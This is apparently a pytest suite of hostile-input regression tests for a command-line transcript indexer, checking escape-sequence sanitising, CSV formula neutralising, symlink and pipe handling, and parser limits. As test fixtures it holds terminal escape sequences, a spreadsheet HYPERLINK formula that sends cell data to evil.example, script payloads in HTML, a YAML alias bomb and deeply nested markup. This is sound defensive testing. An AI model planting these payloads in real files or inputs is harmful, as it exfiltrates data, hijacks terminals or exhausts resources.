"""Hostile and broken input (issue 26): each case here failed before its fix.

The whole adversarial set (mutations of every format, absurd numbers, file-system oddities, hostile
queries) runs in `bench/hostile.py`; these are its findings, one fixture each.
"""

from __future__ import annotations

import json
import re

import pytest
from conftest import run_soundbite
from typer.testing import CliRunner

from indexer.cli.app import app
from indexer.errors import BadQuery, UnreadableFile
from indexer.safe_text import inert, visible, without_controls

# What a terminal acts on: C0 controls but tab and newline, DEL, C1, and ESC in any sequence.
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
SGR = re.compile(r"\x1b\[[0-9;]*m")
ESCAPES = "\x1b]0;pwned\x07 \x1b[2J \x9b31m \x08\x7f"


def hostile_folder(tmp_path):
    """Escape sequences in a cue, a voice name, a podcast speaker, a sidecar role and a file name."""
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "cues.vtt").write_text(
        f"WEBVTT\n\n00:00:01.000 --> 00:00:04.000\n<v Eve{ESCAPES}>Flood warning {ESCAPES} for the river.\n"
    )
    (folder / "podcast.json").write_text(
        json.dumps({"segments": [{"start": 0, "end": 2, "text": f"Flood talk {ESCAPES}", "speaker": f"Mal{ESCAPES}"}]})
    )
    (folder / "turns.md").write_text(f"Ann Lee: The flood is here. {ESCAPES}\n\nBob Ray: Flood again.\n")
    (folder / "turns.json").write_text(json.dumps({"speakers": [{"name": "Ann Lee", "role": f"Mayor{ESCAPES}"}]}))
    (folder / f"name{ESCAPES}\nsplit.srt").write_text("1\n00:00:01,000 --> 00:00:02,000\nFlood in the name.\n")
    return folder


def outputs(tmp_path) -> dict[str, str]:
    runner = CliRunner()
    index_dir = tmp_path / "ix"
    done = runner.invoke(app, ["index", str(hostile_folder(tmp_path)), "--index", str(index_dir)])
    assert done.exit_code == 0, done.output
    found = {"index": done.output}
    ids = [
        json.loads(line)["transcript"]
        for line in runner.invoke(
            app, ["search", "flood", "--index", str(index_dir), "--json", "-n", "0"]
        ).output.splitlines()
    ]
    assert len(ids) == 5
    for name, args in {
        "search": ["search", "flood", "-n", "0"],
        "search-colour": ["search", "flood", "-n", "0", "--color", "always"],
        "context": ["search", "flood", "-n", "0", "-C", "1"],
        "json": ["search", "flood", "--json"],
        "speakers": ["speakers"],
        "count-by": ["search", "flood", "--count-by", "speaker"],
        "count-by-transcript": ["search", "flood", "--count-by", "transcript"],
        "export-srt": ["export", "flood", "-f", "srt"],
        "export-vtt": ["export", "flood", "-f", "vtt"],
        "export-csv": ["export", "flood", "-f", "csv"],
        "stats": ["stats"],
        **{f"show-{i}": ["show", tid] for i, tid in enumerate(ids)},
    }.items():
        result = runner.invoke(app, [*args, "--index", str(index_dir)])
        assert result.exit_code == 0, (name, result.output)
        found[name] = result.output
    return found


def test_no_control_character_from_a_file_reaches_the_terminal(tmp_path):
    printed = outputs(tmp_path)
    for name, output in printed.items():
        assert not RAW_CONTROL.search(SGR.sub("", output)), (name, output)
    # What was said is kept, and the file's odd name is one line, shown escaped.
    searched = printed["search"]
    assert "Flood warning" in searched and "for the river." in searched
    assert "name\\x1b]0;pwned\\x07" in searched


def test_the_installed_command_on_a_pipe_writes_no_control_character(tmp_path):

    index_dir = tmp_path / "ix"
    folder = hostile_folder(tmp_path)
    assert run_soundbite("index", folder, "--index", index_dir, "-q").returncode == 0
    for args in (["search", "flood"], ["speakers"], ["search", "flood", "--count-by", "speaker"]):
        done = run_soundbite(*args, "--index", index_dir)
        assert done.returncode == 0 and not RAW_CONTROL.search(done.stdout + done.stderr), (args, done.stdout)


def test_the_safe_text_rules():
    assert without_controls("a\x1b[2Jb\rc\td\ne\x9b") == "a[2Jb c\td\ne"
    assert visible("caf\udce9\n\x1b") == "caf\\xe9\\n\\x1b"
    assert visible("plain name") == "plain name"
    assert inert("\x1b[1;36mkept\x1b[0m \x1b]0;t\x07 \udce9") == "\x1b[1;36mkept\x1b[0m \\u001b]0;t\\u0007 \\udce9"


def test_push_never_prints_a_password_and_reads_one_with_slashes(tmp_path):
    from indexer.engine.features.cluster import split_credentials, without_credentials

    runner = CliRunner()
    index_dir = tmp_path / "ix"
    (tmp_path / "a.md").write_text("Ann Lee: Flood.\n")
    assert runner.invoke(app, ["index", str(tmp_path / "a.md"), "--index", str(index_dir), "-q"]).exit_code == 0
    for url, says in [
        ("ftp://admin:S3cretPW@host", "'ftp://host' is not a cluster URL"),
        ("http://admin:S3cretPW@", "'http://' is not a cluster URL"),
        ("http://admin:S3c/ret#PW@localhost:notaport", "'http://localhost:notaport': the port is not a number"),
        ("http://admin:S3c/re?tPW@127.0.0.1:1", "http://127.0.0.1:1: cannot connect"),
    ]:
        result = runner.invoke(app, ["push", url, "--index", str(index_dir)])
        assert result.exit_code == 2, (url, result.output)
        assert "S3c" not in result.output and "admin" not in result.output, result.output
        assert says in result.output, result.output
    assert split_credentials("https://ad%40min:p/w#?x@h:9200/") == ("https://h:9200/", "ad@min", "p/w#?x")
    assert without_credentials("https://u:p@h:9200/base?token=x#f") == "https://h:9200/base"


def _small_index(tmp_path):
    index_dir = tmp_path / "ix"
    (tmp_path / "a.md").write_text("Ann Lee: Flood warnings tonight.\n\nBob Ray: Flood again.\n")
    assert CliRunner().invoke(app, ["index", str(tmp_path / "a.md"), "--index", str(index_dir), "-q"]).exit_code == 0
    return index_dir


def test_export_never_follows_a_planted_link_and_keeps_the_mode_of_what_it_replaces(tmp_path):
    import os
    import stat

    index_dir = _small_index(tmp_path)
    out = tmp_path / "out.csv"
    victim = tmp_path / "victim.txt"
    victim.write_text("do not touch\n")
    os.symlink(victim, tmp_path / f".out.csv.{os.getpid()}.part")  # the old temporary name, planted
    stale = tmp_path / ".out.csv.999999999.x1.part"  # left by an export that was killed
    stale.write_text("half")
    out.write_text("old\n")
    out.chmod(0o600)
    result = CliRunner().invoke(app, ["export", "flood", "-f", "csv", "-o", str(out), "--index", str(index_dir)])
    assert result.exit_code == 0, result.output
    assert victim.read_text() == "do not touch\n"
    assert out.read_text().startswith("id,transcript,") and "Flood warnings tonight." in out.read_text()
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert not stale.exists()
    assert sorted(p.name for p in tmp_path.glob(".out.csv.*")) == [f".out.csv.{os.getpid()}.part"]


def test_export_writes_into_a_named_pipe_without_replacing_it(tmp_path):
    import os
    import stat

    index_dir = _small_index(tmp_path)
    fifo = tmp_path / "clips.csv"
    os.mkfifo(fifo)
    reading = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)  # a reader is there: the export's open does not wait
    try:
        result = CliRunner().invoke(app, ["export", "flood", "-f", "csv", "-o", str(fifo), "--index", str(index_dir)])
        chunks = []
        while chunk := os.read(reading, 1 << 16):  # the export is done: all it wrote is in the pipe
            chunks.append(chunk)
        received = b"".join(chunks).decode("utf-8")
    finally:
        os.close(reading)
    assert result.exit_code == 0, result.output
    assert stat.S_ISFIFO(fifo.stat().st_mode)
    assert received.startswith("id,transcript,") and "Flood warnings tonight." in received


def test_exported_csv_cells_never_run_as_formulas_unless_asked(tmp_path):
    import csv
    import io

    index_dir = tmp_path / "ix"
    (tmp_path / "cues.srt").write_text(
        '1\n00:00:01,000 --> 00:00:03,000\n=HYPERLINK("http://evil.example/?x="&A1,"click") flood\n\n'
        "2\n00:00:10,000 --> 00:00:12,000\n@SUM(1+1) flood again\n"
    )
    runner = CliRunner()
    assert runner.invoke(app, ["index", str(tmp_path / "cues.srt"), "--index", str(index_dir), "-q"]).exit_code == 0
    safe = list(
        csv.DictReader(
            io.StringIO(
                runner.invoke(app, ["export", "flood", "-f", "csv", "--sort", "time", "--index", str(index_dir)]).output
            )
        )
    )
    assert [row["text"] for row in safe] == [
        '\'=HYPERLINK("http://evil.example/?x="&A1,"click") flood',
        "'@SUM(1+1) flood again",
    ]
    assert [row["start"] for row in safe] == ["1.0", "10.0"]  # numbers stay numbers
    raw = runner.invoke(
        app, ["export", "flood", "-f", "csv", "--sort", "time", "--csv-formulas", "--index", str(index_dir)]
    ).output
    assert [row["text"] for row in csv.DictReader(io.StringIO(raw))][1] == "@SUM(1+1) flood again"


def test_scripts_and_styles_in_html_transcripts_are_not_speech():
    from indexer.transcripts.formats import archive, podcast

    page = (
        "<cite>Ann:</cite><time>0:00</time><p>Flood <script>document.location='http://evil'</script>warning"
        "<style>p{display:none}</style> tonight.</p>"
    )
    assert [t.text for t in podcast.parse_html(page).turns] == ["Flood warning tonight."]
    snippets = (
        '<a href="/details/x/start/0/end/60">x</a><div class="snipin">crews worked <script>steal()</script>'
        "all night<style>.a{}</style></div>"
    )
    assert [t.text for t in archive.parse(snippets).turns] == ["crews worked all night"]


def test_one_bad_file_never_stops_a_run(tmp_path):
    import os

    folder = tmp_path / "in"
    folder.mkdir()
    good = "1\n00:00:01,000 --> 00:00:02,000\nFlood in {}.\n"
    (folder / "good.srt").write_text(good.format("the good file"))
    with open(os.path.join(os.fsencode(folder), b"caf\xe9.srt"), "w") as named:  # a name that is not UTF-8
        named.write(good.format("the cafe"))
    (folder / "talk.md").write_text("Ann Lee: Flood talk.\n\nBob Ray: More flood.\n")
    (folder / "talk.json").write_text('{"title": "Talk", "durationSeconds": 1e308}')  # a sidecar's absurd length
    (folder / "other.md").write_text("Ann Lee: Flood again.\n")
    (folder / "other.json").write_text('{"durationSeconds": Infinity}')
    (folder / "deep.json").write_text("[" * 100_000 + "]" * 100_000)
    (folder / "digits.vtt").write_text(f"WEBVTT\n\n{'9' * 5000}:00.000 --> 00:02.000\nFlood with no time.\n")
    (folder / "huge.json").write_text(json.dumps({"segments": [{"start": 1e308, "end": 1e309, "text": "Flood far."}]}))
    result = CliRunner().invoke(app, ["index", str(folder), "--index", str(tmp_path / "ix")])
    assert result.exit_code == 0, result.output
    assert "internal error" not in result.output and "Traceback" not in result.output
    assert "deep.json: JSON too deeply nested to read" in result.output
    found = CliRunner().invoke(app, ["search", "flood", "--index", str(tmp_path / "ix"), "--json", "-n", "0"]).output
    ids = sorted({json.loads(line)["transcript"] for line in found.splitlines()})
    assert ids == ["caf\\xe9", "digits", "good", "huge", "other", "talk"]
    shown = CliRunner().invoke(app, ["show", "caf\\xe9", "--index", str(tmp_path / "ix")])
    assert shown.exit_code == 0 and "Flood in the cafe." in shown.output
    again = CliRunner().invoke(app, ["index", str(folder), "--index", str(tmp_path / "ix")])
    assert "6 unchanged" in again.output, again.output  # the odd name is the same file the next time


def test_only_regular_files_are_read_and_a_pipe_never_blocks_the_run(tmp_path):
    import os

    folder = tmp_path / "in"
    folder.mkdir()
    os.mkfifo(folder / "x.srt")  # nobody ever writes to it: opened as a file, the run would wait forever
    os.symlink("/dev/zero", folder / "z.srt")  # read as a file, it never ends
    (folder / "good.srt").write_text("1\n00:00:01,000 --> 00:00:02,000\nFlood ok.\n")
    done = run_soundbite("index", folder, "--index", tmp_path / "ix")  # (its timeout ends the hang this is about)
    assert done.returncode == 0, done.stderr
    assert f"soundbite: skipped {folder / 'x.srt'}: not a regular file (a named pipe): not read" in done.stderr
    assert "soundbite: skipped /dev/zero: not a regular file (a device): not read" in done.stderr
    assert done.stdout.startswith("Indexed 1 transcript: 1 added")


def test_front_matter_with_yaml_aliases_is_not_expanded():
    from indexer.transcripts.metadata import front_matter

    levels = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    levels += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 9)]
    bomb = "---\n" + "\n".join(levels) + "\ntitle: Nine to the ninth\n---\nAnn Lee: Flood.\n"
    data, _ = front_matter(bomb)
    assert data == {}
    assert front_matter("---\ntitle: Fine\n---\nAnn Lee: Flood.\n")[0] == {"title": "Fine"}


def test_a_long_upper_case_paragraph_is_read_as_narration_not_a_soundbite():
    from indexer.transcripts.formats import newsvideo

    shouting = "FLOODWATERS ROSE " * 1000  # 17 KB with no quote: the old pattern tried every split of it
    parsed = newsvideo.parse(f'01:23\nThe lead of the story.\n{shouting}\nJOHN SMITH MAYOR "We are ready."\n')
    assert [(t.speaker, t.text[:17]) for t in parsed.turns][-2:] == [
        ("", "FLOODWATERS ROSE "),
        ("John Smith", "We are ready."),
    ]
    assert newsvideo.soundbite_parts('JOHN SMITH MAYOR: "We are ready."') == ("JOHN SMITH MAYOR", "We are ready.")
    assert newsvideo.soundbite_parts("no quote here") is None


@pytest.mark.parametrize(
    ("args", "says"),
    [
        (["search", "putin~/6"], "putin~/6: /P is how many first letters must match, 1 to 5 for 'putin'"),
        (["search", "putin~1/9"], "putin~1/9: /P is how many first letters must match, 1 to 5"),
        (["search", "putin~2/0"], "putin~2/0: /P is how many first letters must match"),
        (["search", "Putin^1e6"], "a boost ^1e6 in 'Putin^1e6': give a number above 0 and at most 1000"),
        (["search", "Putin^-1"], "a boost ^-1"),
        (["search", "Putin^NaN"], "a boost ^NaN"),
        (["search", '"Putin KGB"~-1'], "a phrase's ~-1"),
        (["search", "putin", "--context", "99999999999"], "99999999999 is not in the range 0<=x<=50"),
        (["search", "putin", "--after", "99999999999999999999"], "--after '99999999999999999999' is not a time"),
        (["trend", "putin", "--until", "9999"], "--until '9999': give a year from 0001 to 9998"),
        (["search", "putin", "--count-by", "date", "--until", "9999"], "give a year from 0001 to 9998"),
        (["export", "putin", "--pad", "nan", "-f", "vtt"], "--pad must be 0 to 3600 seconds, not nan"),
        (["trend", "vaccine", "--since", "0001", "--until", "9998", "--by", "day"], "is over 20,000 periods"),
    ],
)
def test_out_of_range_numbers_are_one_line_and_exit_2_before_any_output(seed_index, args, says):

    done = run_soundbite(*args, "--index", seed_index)
    assert (done.returncode, done.stdout) == (2, ""), done
    assert says in done.stderr and "internal error" not in done.stderr, done.stderr
    assert done.stderr.startswith("soundbite: error: ")


def test_colliding_row_ids_stay_apart_in_the_index_export_and_a_cluster(tmp_path):
    import io
    import sys

    sys.path.insert(0, str(__import__("pathlib").Path(__file__).parent))
    from fake_cluster import FakeCluster

    from indexer.cli import commands
    from indexer.cli.environment import Environment
    from indexer.settings import Settings

    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "d.csv").write_text(
        "id,text\nsame,First flood.\nsame,Second flood.\na/b,Third flood.\na-b,Fourth flood.\na b,Fifth flood.\n"
    )
    index_dir = tmp_path / "ix"
    runner = CliRunner()
    assert runner.invoke(app, ["index", str(folder), "--index", str(index_dir), "-q"]).exit_code == 0
    exported = [
        json.loads(line) for line in runner.invoke(app, ["export", "--index", str(index_dir)]).output.splitlines()
    ]
    assert [(row["id"], row["text"]) for row in exported] == [
        ("d/same#1", "First flood."),
        ("d/same~2#1", "Second flood."),
        ("d/a-b#1", "Third flood."),
        ("d/a-b~2#1", "Fourth flood."),
        ("d/a-b~3#1", "Fifth flood."),
    ]  # in the file's order: the first row keeps the id, the next get ~2, ~3
    shown = runner.invoke(app, ["show", "d/same", "--index", str(index_dir)])
    assert shown.exit_code == 0 and "First flood." in shown.output and "Second" not in shown.output
    env = Environment(io.StringIO(), io.StringIO(), stdout_isatty=False, settings=Settings(push_backoff=0.01))
    with FakeCluster() as cluster:
        assert commands.run(commands.push, env, url=cluster.url, index=index_dir) == 0, env.stderr.getvalue()
        assert len(cluster.docs()) == 5


def test_invisible_characters_inside_words_do_not_hide_them(tmp_path):
    index_dir = tmp_path / "ix"
    (tmp_path / "a.md").write_text(
        "Ann Lee: The har\u200bbour is closed.\n\nBob Ray: The min\u00adister spoke.\n\nCy Dee: A wo\u2060rd joined.\n"
    )
    runner = CliRunner()
    assert runner.invoke(app, ["index", str(tmp_path / "a.md"), "--index", str(index_dir), "-q"]).exit_code == 0
    for word, speaker in (("harbour", "Ann Lee"), ("minister", "Bob Ray"), ("word", "Cy Dee")):
        found = runner.invoke(app, ["search", word, "--index", str(index_dir), "--json"])
        assert [json.loads(line)["speaker"] for line in found.output.splitlines()] == [speaker], word


def test_an_invisible_character_standing_alone_is_no_word_and_stops_nothing(tmp_path):
    # A soft hyphen or a zero-width space between spaces (the briefings have them) once ended a whole build
    # with an internal error in the analysis, in the bulk writer and in Whoosh's own writer alike.
    index_dir = tmp_path / "ix"
    (tmp_path / "a.md").write_text("Ann Lee: The harbour \u00ad is closed \u200b today.\n")
    runner = CliRunner()
    done = runner.invoke(app, ["index", str(tmp_path / "a.md"), "--index", str(index_dir), "-q"])
    assert done.exit_code == 0, done.output
    found = runner.invoke(app, ["search", "closed today", "--index", str(index_dir), "--json"])
    assert json.loads(found.output)["text"] == "The harbour \u00ad is closed \u200b today."


def test_a_legacy_file_with_utf8_quotes_pasted_in_reads_both_right():
    from indexer.transcripts.decode import decode

    data = "naïve café ".encode("cp1252") + "“utf8 quotes” — a dash".encode() + "\nrésumé".encode("cp1252")
    assert decode(data) == ("naïve café “utf8 quotes” — a dash\nrésumé", "utf-8+cp1252")
    assert decode("plain naïve café".encode("cp1252")) == ("plain naïve café", "cp1252")


def test_the_next_run_removes_what_an_interrupted_one_left(tmp_path):
    import os

    from indexer.engine.storage import store

    index_dir = _small_index(tmp_path)
    current = store.current_generation(index_dir)
    killed_rebuild = index_dir / "gen-99991231-235959-999999999-abcdef"  # begun after current, never published
    killed_rebuild.mkdir()
    (killed_rebuild / "MAIN_half.seg").write_bytes(b"\0" * 4096)
    older = [index_dir / f"gen-20000101-00000{n}-1-aaaaaa" for n in (1, 2)]
    for folder in older:
        folder.mkdir()
    partial = current / "MAIN_zzpartialsegment1.seg"  # a segment a full disk cut short, in no table of contents
    partial.write_bytes(b"\0" * 4096)
    stale_tmp = current / "files.json.999999999.tmp"
    stale_tmp.write_text("{")
    live_tmp = current / f"files.json.{os.getpid()}.tmp"  # a live process's: left alone
    live_tmp.write_text("{")
    result = CliRunner().invoke(app, ["index", "--index", str(index_dir), "-q"])
    assert result.exit_code == 0, result.output
    assert not killed_rebuild.exists() and not partial.exists() and not stale_tmp.exists()
    assert not older[0].exists() and older[1].exists()  # the newest older one may still be read by a search
    assert live_tmp.exists()
    assert store.current_generation(index_dir) == current
    found = CliRunner().invoke(app, ["search", "flood", "--index", str(index_dir)])
    assert found.exit_code == 0 and "2 hits" in found.output


def test_the_work_a_query_asks_for_is_bounded(seed_index, monkeypatch):
    from indexer.engine.querying import suggest
    from indexer.engine.querying.search import search
    from indexer.errors import BadQuery

    with pytest.raises(BadQuery, match="a query of 201 words"):
        search(seed_index, " ".join(["putin"] * 201))
    with pytest.raises(BadQuery, match=r"needs words on each side, not \*"):
        search(seed_index, "* NEAR/3600s *")
    looked_up = []
    real = suggest._closest
    monkeypatch.setattr(suggest, "_closest", lambda word, *rest: looked_up.append(word) or real(word, *rest))
    assert search(seed_index, " ".join(["Putn"] * 100)).suggestion == " ".join(["Putin"] * 100)
    assert looked_up == ["putn"]  # a repeated word is looked up once
    looked_up.clear()
    search(seed_index, "qwertz asdfgh zxcvbn poiuyt lkjhgf mnbvcx qazwsx edcrfv tgbyhn ujmikl")
    assert len(looked_up) == suggest.MAX_CORRECTED


def test_absurd_caption_times_and_deep_markup_are_notes_not_crashes_or_hangs(tmp_path):
    from indexer.transcripts import sources as reading

    sami = tmp_path / "huge.smi"
    sami.write_text(
        "<SAMI><BODY><SYNC Start=1000><P Class=ENCC>Flood warning.\n"
        "<SYNC Start=100000000000000000000><P Class=ENCC>Flood again.</BODY></SAMI>"
    )
    (transcript,) = reading.load_all(reading.SourceFile(sami, "huge"))
    assert "Flood again." in " ".join(p.text for p in transcript.passages)
    assert all(p.start is None or p.start < 3600 for p in transcript.passages)
    deep = tmp_path / "deep.ttml"
    deep.write_text('<tt xmlns="http://www.w3.org/ns/ttml"><body>' + "<div>" * 5000 + "</div>" * 5000 + "</body></tt>")
    with pytest.raises(UnreadableFile, match="markup nested more than 200 elements deep"):
        reading.load_all(reading.SourceFile(deep, "deep"))
    from indexer.engine.querying.search import search

    index_dir = tmp_path / "ix"
    (tmp_path / "a.md").write_text("Ann Lee: Flood.\n")
    CliRunner().invoke(app, ["index", str(tmp_path / "a.md"), "--index", str(index_dir), "-q"])
    with pytest.raises(BadQuery):  # 100,000 letters: refused at once (the slop check once took minutes on it)
        search(index_dir, "x" * 100_000)


def test_an_scc_line_longer_than_any_caption_is_refused_and_odd_utc_offsets_are_no_air_time(tmp_path):
    from indexer.transcripts import sources as reading
    from indexer.transcripts.metadata import air_time

    scc = tmp_path / "long.scc"
    scc.write_text("Scenarist_SCC V1.0\n\n00:00:00:00\t" + "9420 " * 20_000 + "\n")
    with pytest.raises(UnreadableFile, match="an SCC line of 100,012 characters"):
        reading.load_all(reading.SourceFile(scc, "long"))
    assert air_time("2013-02-04 22:00:00", "2500") == ("", "")  # no time zone is 25 hours from UTC
    assert air_time("0001-01-01 00:00:00", "-500") == ("", "")  # year 1 moved back before year 1
    assert air_time("2013-02-04 22:00:00", "-500") == ("2013-02-04T17:00:00-05:00", "2013-02-04")


def test_a_long_sami_file_is_not_mistaken_for_deep_markup(tmp_path):
    from indexer.transcripts import sources as reading

    cues = "".join(f"<SYNC Start={n * 1000}><P Class=ENCC>Flood report {n}.\n" for n in range(1000))
    sami = tmp_path / "long.smi"
    sami.write_text(f"<SAMI><BODY>\n{cues}</BODY></SAMI>\n")  # SYNC and P are never closed, as SAMI writes them
    (transcript,) = reading.load_all(reading.SourceFile(sami, "long"))
    said = " ".join(p.text for p in transcript.passages)
    assert "Flood report 0." in said and "Flood report 999." in said
